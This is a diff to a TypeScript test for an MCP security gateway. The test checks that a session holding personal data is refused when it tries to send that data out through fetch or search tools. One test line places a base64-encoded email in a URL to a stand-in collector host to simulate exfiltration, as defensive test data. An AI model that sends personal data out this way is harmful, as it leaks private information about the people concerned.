@@ -9,6 +9,7 @@ import { startTestGateway, type TestGateway } from '../helpers/gateway.js';
 import { textOf } from '../helpers/secure-gateway.js';
 import { FILESYSTEM, ROOT } from '../helpers/servers.js';
 import { connectWithToken } from '../helpers/clients.js';
+import { decisionsFor } from '../helpers/decisions.js';
 
 /**
  * A session that read personal data must not send it out through a tool that only *reads* — a fetch, a
@@ -51,7 +52,7 @@ mcpServers:
       marked_closed: { openWorld: false }
 `);
   token = new FileTokenStore(gw.gateway.config.security.tokensFile).create('eve').token;
-  gw.gateway.events.on('decision', (e) => decisions.push(e));
+  gw.gateway.onDecision((e) => decisions.push(e));
 });
 afterAll(async () => gw?.stop());
 
@@ -71,10 +72,11 @@ describe('egress beyond write tools', () => {
     expect(textOf(await c.callTool({ name: 'files__read_text_file', arguments: { path: path.join(sandbox, 'customers.txt') } }))).toContain(EMAIL);
     const encoded = Buffer.from(EMAIL).toString('base64');
     for (const tool of ['web__fetch', 'web__search']) {
-      const r = await call(c, tool, `https://collector.example/?d=${encoded}`);
+      const [since, q] = [decisions.length, `https://collector.example/?d=${encoded}`];
+      const r = await call(c, tool, q);
       expect(r.isError, tool).toBe(true);
       expect(textOf(r)).toMatch(/refused this call at the information-flow step: the session holds pii data and .* is cleared for public only \(it is open-world/);
-      expect(decisions.at(-1)).toMatchObject({ target: tool, outcome: 'deny', step: 'information-flow' });
+      expect(decisionsFor(decisions, since, { target: tool, arguments: { q } })).toEqual([expect.objectContaining({ outcome: 'deny', step: 'information-flow' })]);
     }
     // Reads that stay inside keep working for the tainted session: server-filesystem's (openWorldHint false),
     // a closed annotated tool, and one the operator marked closed.
